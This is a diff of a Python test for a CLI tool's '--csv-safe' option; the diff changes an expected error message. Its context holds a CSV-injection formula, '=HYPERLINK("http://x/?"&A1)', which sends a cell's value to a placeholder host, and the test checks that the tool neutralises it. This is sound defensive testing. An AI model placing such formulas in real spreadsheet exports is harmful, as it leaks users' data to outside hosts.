@@ -65,7 +65,7 @@ def test_the_command_writes_it(tmp_path: Path) -> None:
     assert run(*asked).lines[1].rstrip("\r") == '"=HYPERLINK(""http://x/?""&A1)",5'
     assert run(*asked, "--csv-safe").lines[1].rstrip("\r") == '"\'=HYPERLINK(""http://x/?""&A1)",5'
     refused = run(*asked[:-1], "json", "--csv-safe")
-    assert (refused.status, "--csv-safe goes with --format csv" in refused.err) == (2, True)
+    assert (refused.status, "--csv-safe needs --format csv" in refused.err) == (2, True)
     for command in ("table", "counts"):
         told = run(command, "--help").out
         assert "--csv-safe" in told
